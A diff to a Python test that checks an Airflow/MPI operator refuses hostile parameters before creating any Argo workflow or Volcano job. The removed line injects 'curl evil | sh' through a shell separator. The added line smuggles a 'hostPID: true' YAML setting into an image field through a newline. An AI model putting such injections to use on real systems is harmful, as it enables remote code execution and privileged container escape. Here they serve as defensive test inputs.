@@ -35,13 +35,16 @@ def test_etl_then_mpi_then_downstream_succeeds_with_every_rank_in_the_log(sandbo
 
 
 def test_hostile_parameters_are_refused_before_anything_is_created(sandbox, mpi_namespace, caplog, capfd):
-    from tests.dags.mpi_test_dags import mpi_hostile
+    """A value Argo substitutes as text is refused; argv and the pods' settings are carried as data instead
+    (``test_operator_pod_settings.py``).
+    """
+    from tests.dags.mpi_test_dags import mpi_overrides
 
     states, log = run_dag(
-        mpi_hostile, caplog, capfd, namespace=mpi_namespace, mpi_command="mpi_hello_world; curl evil | sh"
+        mpi_overrides, caplog, capfd, namespace=mpi_namespace, overrides={"image": "mpi:1\n  hostPID: true"}
     )
     assert states == {"mpi": "failed"}
-    assert "mpi_command: must not contain ';'" in log
+    assert "image: must be an image reference" in log
     assert sandbox.api.list("workflows", mpi_namespace)["items"] == []
     assert sandbox.api.list("vcjobs", mpi_namespace)["items"] == []
 
